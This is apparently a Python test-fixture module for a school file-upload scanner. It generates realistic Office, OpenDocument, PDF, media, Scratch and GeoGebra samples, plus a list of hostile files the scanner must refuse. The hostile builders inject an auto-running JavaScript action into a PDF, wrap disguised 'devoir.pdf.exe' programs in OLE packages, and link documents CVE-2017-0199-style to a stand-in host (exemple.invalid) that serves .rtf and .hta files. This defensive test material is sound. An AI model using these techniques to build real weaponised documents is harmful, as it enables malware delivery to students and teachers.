"""Real school files, made at test time by the programs that make them in schools.

Each entry is the bytes a real producer writes (python-docx, openpyxl, python-pptx, odfpy, Pillow,
pillow-heif, fpdf2, ffmpeg, Scratch's and GeoGebra's own layouts), the Content-Type a browser or
tablet declares for it, a file name, and the type the scan should judge it (what it is served as).
Built once per test session and cached in a temporary folder; `python -m tests.corpus` prints it.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from tests import ole

OPUS_WEBM = "audio/webm"


@dataclass(frozen=True)
class Sample:
    """One legitimate school file: bytes, what the device declares, its name, and the judged type."""

    id: str
    name: str
    declared: str
    judged: str
    data: bytes


# -- office documents -----------------------------------------------------------------------------


def _docx() -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Exposé : le cycle de l'eau", level=1)
    document.add_paragraph("L'eau s'évapore, forme des nuages, puis retombe en pluie ; c'est le cycle de l'eau.")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
OLE_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
W_NAMESPACES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
)


def _w_object(attributes: str, inner: str = "") -> Any:
    """The `w:object` Word writes in the text for an OLE object (embedded or linked): its VML shape and its
    `o:OLEObject` with `attributes` (and `inner`)."""
    from docx.oxml import parse_xml

    return parse_xml(
        f'<w:object {W_NAMESPACES} xmlns:v="urn:schemas-microsoft-com:vml"'
        ' xmlns:o="urn:schemas-microsoft-com:office:office" w:dxaOrig="1520" w:dyaOrig="960">'
        '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:48pt" o:ole=""/>'
        f'<o:OLEObject {attributes} ShapeID="_x0000_i1025">{inner}</o:OLEObject></w:object>'
    )


def docx_with_object(blob: bytes, prog_id: str) -> bytes:
    """A Word document (python-docx) embedding an object as Word does (Insert > Object, shown as an icon):
    the OLE compound file `blob` as word/embeddings/oleObject1.bin, related to the document, and the
    `w:object` that shows it in the text."""
    import docx
    from docx.opc.packuri import PackURI
    from docx.opc.part import Part

    document = docx.Document()
    document.add_paragraph("Voici mon exposé en PDF :")
    part = Part(PackURI("/word/embeddings/oleObject1.bin"), OLE_OBJECT, blob, document.part.package)
    rid = document.part.relate_to(part, OLE_RELATIONSHIP)
    document.add_paragraph().add_run()._r.append(
        _w_object(f'Type="Embed" ProgID="{prog_id}" DrawAspect="Icon" ObjectID="_1801234567" r:id="{rid}"')
    )
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def pptx_with_object(blob: bytes, prog_id: str) -> bytes:
    """A PowerPoint presentation (python-pptx) embedding the OLE compound file `blob` on a slide, as
    PowerPoint does (ppt/embeddings/oleObject1.bin)."""
    import pptx
    from pptx.util import Inches

    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.title.text = "Les volcans d'Auvergne : le dossier"
    slide.shapes.add_ole_object(io.BytesIO(blob), prog_id, Inches(1), Inches(2), Inches(1), Inches(1))
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


# Where Word's Paste Special > Paste link of a spreadsheet's cells points: the workbook on the writer's drive.
PASTE_LINK = "file:///C:\\Users\\prof\\Documents\\Notes 5B.xlsx!Feuil1!L1C1:L5C3"
HYPERLINK_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"


def docx_linking(url: str, prog_id: str = "Word.Document.8") -> bytes:
    """A Word document (python-docx) with a linked object as CVE-2017-0199's documents carry one: no
    embedded file, an `oleObject` relationship whose target is `url` (TargetMode External) and the
    `o:OLEObject Type="Link"` Word updates from it at open (what Paste Special > Paste link writes too, with
    a path on the writer's drive as the target)."""
    import docx

    document = docx.Document()
    document.add_paragraph("Voici le document du cours :")
    rid = document.part.relate_to(url, OLE_RELATIONSHIP, is_external=True)
    document.add_paragraph().add_run()._r.append(
        _w_object(
            f'Type="Link" ProgID="{prog_id}" DrawAspect="Content" r:id="{rid}" UpdateMode="Always"',
            "<o:LinkType>EnhancedMetaFile</o:LinkType>",
        )
    )
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def docx_with_hyperlinks(*urls: str) -> bytes:
    """A Word document (python-docx) whose text links to web pages as Word writes links (Insert > Link): a
    `hyperlink` relationship per URL, TargetMode External, and the `w:hyperlink` that shows it."""
    import docx
    from docx.oxml import parse_xml

    document = docx.Document()
    document.add_paragraph("Sources de l'exposé :")
    for url in urls:
        rid = document.part.relate_to(url, HYPERLINK_RELATIONSHIP, is_external=True)
        document.add_paragraph()._p.append(
            parse_xml(
                f'<w:hyperlink {W_NAMESPACES} r:id="{rid}" w:history="1"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/>'
                f"</w:rPr><w:t>{url.replace('&', '&amp;')}</w:t></w:r></w:hyperlink>"
            )
        )
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


SOURCES = (
    "https://fr.wikipedia.org/wiki/Cycle_de_l%27eau",
    "https://www.meteofrance.fr/actualites?page=2&tri=date",
    "http://eduscol.education.fr/",
    "mailto:professeur@college-exemple.fr",
)


def _docx_embedding_a_pdf() -> bytes:
    """An exposé with its PDF embedded as Word embeds one when Acrobat is installed (AcroExch.Document)."""
    return docx_with_object(ole.embedded_pdf(_pdf()), ole.ACROBAT_PROG_ID)


def _pptx_packaging_a_pdf() -> bytes:
    """Slides with a PDF embedded as an OLE Package (what Office does when no program embeds PDFs)."""
    return pptx_with_object(ole.packaged("devoir.pdf", _pdf()), "Package")


def _rtf_embedding_a_pdf() -> bytes:
    """An exposé saved as RTF by Word: a photo (Pillow's PNG, as \\pict hex) and its PDF (fpdf2) embedded
    as Word embeds one when Acrobat is installed (an OLE 1.0 object around Acrobat's compound file)."""
    return ole.rtf_document(
        ole.rtf_picture(_png()),
        ole.rtf_object(ole.ole1(ole.ACROBAT_PROG_ID, ole.embedded_pdf(_pdf())), ole.ACROBAT_PROG_ID),
    )


def _xlsx() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "Notes"
    sheet.append(["Élève", "Maths", "Français"])
    sheet.append(["Alice", 15.5, 14])
    sheet.append(["Bérénice", 12, 17])
    sheet["D2"] = "=AVERAGE(B2:C2)"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _pptx() -> bytes:
    import pptx

    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text = "Les volcans d'Auvergne"
    slide.placeholders[1].text = "Le puy de Dôme, le puy de Sancy, la chaîne des Puys"
    out = io.BytesIO()
    deck.save(out)
    return out.getvalue()


def _odt() -> bytes:
    from odf.opendocument import OpenDocumentText
    from odf.text import H, P

    document = OpenDocumentText()
    document.text.addElement(H(outlinelevel=1, text="Rédaction"))
    document.text.addElement(P(text="Mon été à la mer, avec ma sœur et mes cousins."))
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def _ods() -> bytes:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import Table, TableCell, TableRow
    from odf.text import P

    document = OpenDocumentSpreadsheet()
    table = Table(name="Relevés")
    for row in (("Jour", "Température"), ("lundi", "12,5"), ("mardi", "14")):
        line = TableRow()
        for value in row:
            cell = TableCell()
            cell.addElement(P(text=value))
            line.addElement(cell)
        table.addElement(line)
    document.spreadsheet.addElement(table)
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def _pdf() -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("Helvetica", size=14)
    pdf.cell(text="Devoir de mathématiques : exercice 3")
    return bytes(pdf.output())


def script_pdf() -> bytes:
    """A real PDF (fpdf2) made to run script when opened, as attackers make one: an incremental update
    gives its catalog an /OpenAction to a JavaScript action (what make-pdf-javascript-like tools write)."""
    pdf = _pdf()
    root = int(_found(rb"/Root (\d+) 0 R", pdf))
    size = int(_found(rb"/Size (\d+)", pdf))
    previous = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    catalog = re.sub(rb"/OpenAction \[[^\]]*\]", b"", _found(rb"\n%d 0 obj\s*<<(.*?)>>\s*endobj" % root, pdf))
    out = bytearray(pdf)
    at_catalog = len(out)
    out += b"%d 0 obj\n<<%s/OpenAction %d 0 R\n>>\nendobj\n" % (root, catalog, size)
    at_action = len(out)
    out += b"%d 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('Bonjour'\\)) >>\nendobj\n" % size
    xref = len(out)
    out += b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (root, at_catalog, size, at_action)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size + 1, root, previous, xref)
    return bytes(out)


def _found(pattern: bytes, data: bytes) -> bytes:
    match = re.search(pattern, data, re.DOTALL)
    assert match is not None, pattern
    return match.group(1)


def repacked(container: bytes, member: str, data: bytes) -> bytes:
    """A zip-based document with one more member, its own members copied as they were (an OpenDocument's
    `mimetype` first and stored), as an attacker repacks a real one."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(container)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info.filename))
        target.writestr(member, data)
    return out.getvalue()


# -- pictures -------------------------------------------------------------------------------------


def _picture(size: tuple[int, int] = (64, 48)) -> object:
    from PIL import Image

    picture = Image.new("RGB", size)
    for x in range(size[0]):
        for y in range(size[1]):
            picture.putpixel((x, y), (x * 4 % 256, y * 5 % 256, (x + y) % 256))
    return picture


def _phone_exif() -> object:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Apple"  # Make
    exif[0x0110] = "iPhone 13"  # Model
    exif[0x0112] = 6  # Orientation: rotated, as a phone held upright writes it
    exif[0x0132] = "2026:03:14 10:12:31"  # DateTime
    exif[0x0131] = "17.4"  # Software
    return exif


def _jpeg() -> bytes:
    out = io.BytesIO()
    _picture().save(out, format="JPEG", quality=85, exif=_phone_exif())  # type: ignore[attr-defined]
    return out.getvalue()


def _png() -> bytes:
    out = io.BytesIO()
    _picture().save(out, format="PNG")  # type: ignore[attr-defined]
    return out.getvalue()


def _heic() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    _picture().save(out, format="HEIF", quality=80, exif=_phone_exif())  # type: ignore[attr-defined]
    return out.getvalue()


# -- sound and video (ffmpeg) ---------------------------------------------------------------------


def ffmpeg_exe() -> str:
    """The ffmpeg binary the imageio-ffmpeg wheel ships (libopus, libmp3lame, aac, libx264)."""
    import imageio_ffmpeg

    return str(imageio_ffmpeg.get_ffmpeg_exe())


def _ffmpeg(folder: Path, name: str, *args: str, video: bool = False) -> bytes:
    target = folder / name
    inputs = ["-f", "lavfi", "-i", "sine=frequency=440:duration=1"]
    if video:
        inputs += ["-f", "lavfi", "-i", "testsrc=size=64x48:rate=10:duration=1"]
    command = [ffmpeg_exe(), "-hide_banner", "-loglevel", "error", "-y", *inputs, *args, str(target)]
    subprocess.run(command, check=True, timeout=60)
    return target.read_bytes()


def _m4a(folder: Path) -> bytes:
    return _ffmpeg(folder, "oral.m4a", "-c:a", "aac", "-b:a", "64k")  # the iPad's Voice Memos


def _mp3(folder: Path) -> bytes:
    return _ffmpeg(folder, "chanson.mp3", "-c:a", "libmp3lame", "-b:a", "64k")


def _webm_opus(folder: Path) -> bytes:
    # As Chrome's MediaRecorder writes `audio/webm;codecs=opus`: Matroska/WebM, one Opus track.
    return _ffmpeg(folder, "oral.webm", "-c:a", "libopus", "-b:a", "32k", "-f", "webm")


def _mp4(folder: Path) -> bytes:
    codec = ["-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest"]
    return _ffmpeg(folder, "expose.mp4", *codec, video=True)


def _mov(folder: Path) -> bytes:
    codec = ["-c:v", "libx264", "-pix_fmt", "yuv420p", "-c:a", "aac", "-shortest", "-f", "mov"]
    return _ffmpeg(folder, "IMG_0420.mov", *codec, video=True)  # an iPhone's video


# -- zip-based school formats ---------------------------------------------------------------------


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


SVG_BACKDROP = b'<svg xmlns="http://www.w3.org/2000/svg" width="2" height="2"><rect width="2" height="2"/></svg>'
SVG_CAT = b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><circle cx="2" cy="2" r="2"/></svg>'


def _md5_name(data: bytes, extension: str) -> str:
    return f"{hashlib.md5(data).hexdigest()}.{extension}"  # Scratch names assets by MD5, not for security


def _costume(name: str, svg: bytes) -> dict[str, object]:
    md5ext = _md5_name(svg, "svg")
    return {"name": name, "assetId": md5ext[:32], "md5ext": md5ext, "dataFormat": "svg", "rotationCenterX": 1}


def _sb3() -> bytes:
    """A Scratch 3 project as Scratch saves it: `project.json`, then its sounds and costumes, each
    named by its MD5 and extension (scratch-vm's `saveProjectSb3`, DEFLATE)."""
    wav = _wav_tone()
    sound = _md5_name(wav, "wav")
    stage = {
        "isStage": True,
        "name": "Stage",
        "costumes": [_costume("backdrop1", SVG_BACKDROP)],
        "sounds": [{"name": "pop", "assetId": sound[:32], "md5ext": sound, "dataFormat": "wav", "rate": 8000}],
        "blocks": {},
    }
    cat = {
        "isStage": False,
        "name": "Chat",
        "costumes": [_costume("chat", SVG_CAT)],
        "sounds": [],
        "blocks": {"a": {"opcode": "event_whenflagclicked", "next": None, "parent": None, "topLevel": True}},
    }
    project = {"targets": [stage, cat], "meta": {"semver": "3.0.0", "vm": "2.3.0", "agent": "Mozilla/5.0"}}
    return _zip(
        [
            ("project.json", json.dumps(project, separators=(",", ":")).encode()),
            (sound, wav),
            (_md5_name(SVG_BACKDROP, "svg"), SVG_BACKDROP),
            (_md5_name(SVG_CAT, "svg"), SVG_CAT),
        ]
    )


def _ggb() -> bytes:
    """A GeoGebra file as GeoGebra saves it: `geogebra.xml` and its companions in a zip."""
    xml = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<geogebra format="5.0" app="classic">'
        b'<construction><element type="point" label="A"><coords x="1" y="2" z="1"/></element>'
        b"</construction></geogebra>"
    )
    return _zip(
        [
            ("geogebra_thumbnail.png", _png()),
            ("geogebra_javascript.js", b"function ggbOnInit() {}"),
            ("geogebra_defaults2d.xml", b'<?xml version="1.0" encoding="utf-8"?>\n<geogebra format="5.0"/>'),
            ("geogebra.xml", xml),
        ]
    )


def _wav_tone() -> bytes:
    import wave

    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(bytes(range(256)) * 6)
    return out.getvalue()


# -- texts, in the encodings people use -----------------------------------------------------------

FRENCH = "Bonjour, je m'appelle Alice.\nJ'aime le foot, le basket et la danse.\nMon plat préféré, c'est les crêpes.\n"
CSV = "Nom;Prénom;Note\r\nDurand;Élodie;15,5\r\nMartin;Noé;12\r\nLefèvre;Chloé;17\r\n"


def _texts() -> list[Sample]:
    return [
        Sample("text-utf8-commas", "presentation.txt", "text/plain", "text/plain", FRENCH.encode()),
        Sample("text-crlf", "poeme.txt", "text/plain", "text/plain", FRENCH.replace("\n", "\r\n").encode()),
        Sample("text-windows-1252", "resume.txt", "text/plain", "text/plain", FRENCH.encode("cp1252")),
        Sample("text-utf16-bom", "notes.txt", "text/plain", "text/plain", FRENCH.encode("utf-16")),
        Sample("csv-windows", "notes.csv", "application/vnd.ms-excel", "text/csv", CSV.encode("cp1252")),
        Sample("csv-utf8", "sondage.csv", "text/csv", "text/csv", "Prénom,Sport\nAlice,foot\nNoé,danse\n".encode()),
    ]


SB3 = "application/x.scratch.sb3"
GGB = "application/vnd.geogebra.file"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
RTF = "application/rtf"

# id, name, declared, judged, producer (of the folder it may write in)
_PRODUCED: list[tuple[str, str, str, str, Callable[[Path], bytes]]] = [
    ("docx", "expose.docx", DOCX, DOCX, lambda _: _docx()),
    ("xlsx", "notes.xlsx", XLSX, XLSX, lambda _: _xlsx()),
    ("pptx", "volcans.pptx", PPTX, PPTX, lambda _: _pptx()),
    ("docx-embedded-pdf", "expose.docx", DOCX, DOCX, lambda _: _docx_embedding_a_pdf()),
    ("docx-external-hyperlinks", "expose.docx", DOCX, DOCX, lambda _: docx_with_hyperlinks(*SOURCES)),
    # A teacher's Paste Special > Paste link of a spreadsheet's cells: linked to a file on her own drive.
    ("docx-paste-linked-cells", "bilan.docx", DOCX, DOCX, lambda _: docx_linking(PASTE_LINK, "Excel.Sheet.12")),
    ("pptx-packaged-pdf", "volcans.pptx", PPTX, PPTX, lambda _: _pptx_packaging_a_pdf()),
    ("rtf-embedded-pdf-and-picture", "expose.rtf", RTF, RTF, lambda _: _rtf_embedding_a_pdf()),
    ("odt", "redaction.odt", ODT, ODT, lambda _: _odt()),
    ("ods", "releves.ods", ODS, ODS, lambda _: _ods()),
    ("pdf", "devoir.pdf", "application/pdf", "application/pdf", lambda _: _pdf()),
    ("pdf-no-type", "devoir.pdf", "application/octet-stream", "application/pdf", lambda _: _pdf()),
    ("jpeg-phone", "IMG_0421.jpg", "image/jpeg", "image/jpeg", lambda _: _jpeg()),
    ("png", "schema.png", "image/png", "image/png", lambda _: _png()),
    ("heic-iphone", "IMG_0422.HEIC", "image/heic", "image/heic", lambda _: _heic()),
    ("m4a", "oral.m4a", "audio/x-m4a", "audio/x-m4a", _m4a),
    ("mp3", "chanson.mp3", "audio/mpeg", "audio/mpeg", _mp3),
    ("webm-opus-mediarecorder", "oral.webm", "audio/webm;codecs=opus", OPUS_WEBM, _webm_opus),
    ("mp4", "expose.mp4", "video/mp4", "video/mp4", _mp4),
    ("mov-iphone", "IMG_0420.MOV", "video/quicktime", "video/quicktime", _mov),
    ("sb3-no-type", "jeu.sb3", "application/octet-stream", SB3, lambda _: _sb3()),
    ("sb3-scratch-type", "jeu.sb3", SB3, SB3, lambda _: _sb3()),
    ("ggb-no-type", "triangle.ggb", "application/octet-stream", GGB, lambda _: _ggb()),
    ("ggb-geogebra-type", "triangle.ggb", GGB, GGB, lambda _: _ggb()),
]


@dataclass(frozen=True)
class Hostile:
    """A file that must never be served: bytes, what the sender declares, its name, the refusal reason."""

    id: str
    name: str
    declared: str
    reason: str
    data: bytes


# id, name, declared, reason, producer: what clamd does not see, made from the real producers' files
_HOSTILE: list[tuple[str, str, str, str, Callable[[], bytes]]] = [
    ("pdf-javascript", "devoir.pdf", "application/pdf", "active_content", script_pdf),
    ("pdf-javascript-in-a-zip", "devoirs.zip", "application/zip", "active_content",
     lambda: _zip([("lisez-moi.txt", FRENCH.encode()), ("devoir.pdf", script_pdf())])),
    ("pdf-javascript-in-a-docx", "expose.docx", DOCX, "active_content",
     lambda: repacked(_docx(), "word/embeddings/devoir.pdf", script_pdf())),
    ("pdf-javascript-in-an-odt", "redaction.odt", ODT, "active_content",
     lambda: repacked(_odt(), "Object 1/devoir.pdf", script_pdf())),
    ("pdf-javascript-in-a-zip-in-a-zip", "classe.zip", "application/zip", "active_content",
     lambda: _zip([("5C/devoirs.zip", _zip([("devoir.pdf", script_pdf())]))])),
    # Embedded as Word and PowerPoint embed a PDF (Insert > Object): Acrobat's CONTENTS, or an OLE Package.
    ("pdf-javascript-ole-in-a-docx", "expose.docx", DOCX, "active_content",
     lambda: docx_with_object(ole.embedded_pdf(script_pdf()), ole.ACROBAT_PROG_ID)),
    ("pdf-javascript-package-in-a-docx", "expose.docx", DOCX, "active_content",
     lambda: docx_with_object(ole.packaged("devoir.pdf", script_pdf()), "Package")),
    ("pdf-javascript-ole-in-a-pptx", "volcans.pptx", PPTX, "active_content",
     lambda: pptx_with_object(ole.embedded_pdf(script_pdf()), ole.ACROBAT_PROG_ID)),
    ("pdf-javascript-package-in-a-pptx", "volcans.pptx", PPTX, "active_content",
     lambda: pptx_with_object(ole.packaged("devoir.pdf", script_pdf()), "Package")),
    ("program-package-in-a-docx", "expose.docx", DOCX, "executable",
     lambda: docx_with_object(ole.packaged("devoir.pdf.exe", ole.PROGRAM), "Package")),
    ("pdf-javascript-in-a-doc", "expose.doc", "application/msword", "active_content",
     lambda: ole.word_97(script_pdf())),
    # An RTF's \objdata: an OLE 1.0 object, Acrobat's (loaded at open: \objupdate) or a Package.
    ("pdf-javascript-ole-in-an-rtf", "expose.rtf", RTF, "active_content",
     lambda: ole.rtf_document(ole.rtf_object(ole.ole1(ole.ACROBAT_PROG_ID, ole.embedded_pdf(script_pdf())),
                                             ole.ACROBAT_PROG_ID, update=True))),
    ("program-package-in-an-rtf", "expose.rtf", RTF, "executable",
     lambda: ole.rtf_document(ole.rtf_object(ole.ole1_package("devoir.pdf.exe", ole.PROGRAM)))),
    # Linked objects (CVE-2017-0199): Word fetches what the link names at open and runs it.
    ("linked-object-in-a-docx", "expose.docx", DOCX, "linked_object",
     lambda: docx_linking("http://exemple.invalid/cours.rtf")),
    ("linked-ole-object-in-a-docx", "expose.docx", DOCX, "linked_object",
     lambda: docx_with_object(ole.linked_object("http://exemple.invalid/cours.hta"), "Word.Document.8")),
]  # fmt: skip


def hostile_ids() -> list[str]:
    """Every hostile file's id, known before any is made (for test parametrization)."""
    return [ident for ident, *_ in _HOSTILE]


def hostile() -> list[Hostile]:
    """Every hostile file, made afresh (small: no cache needed)."""
    return [Hostile(ident, name, declared, reason, produce()) for ident, name, declared, reason, produce in _HOSTILE]


def sample_ids() -> list[str]:
    """Every sample's id, known before any is made (for test parametrization)."""
    return [s.id for s in _texts()] + [ident for ident, *_ in _PRODUCED]


def build(folder: Path) -> list[Sample]:
    """Every sample, made in (and cached under) `folder`."""
    folder.mkdir(parents=True, exist_ok=True)
    samples = _texts()
    for ident, name, declared, judged, produce in _PRODUCED:
        cached = folder / f"{ident}.bin"
        if not cached.exists():
            work = folder / ident
            work.mkdir(exist_ok=True)
            cached.write_bytes(produce(work))
        samples.append(Sample(ident, name, declared, judged, cached.read_bytes()))
    return samples


if __name__ == "__main__":
    import tempfile

    import magic

    with tempfile.TemporaryDirectory() as tmp:
        for sample in build(Path(tmp)):
            sniffed = magic.from_buffer(sample.data[: 256 * 1024], mime=True)
            print(f"{sample.id:26} {len(sample.data):7} {sample.declared:40} sniffed {sniffed}")
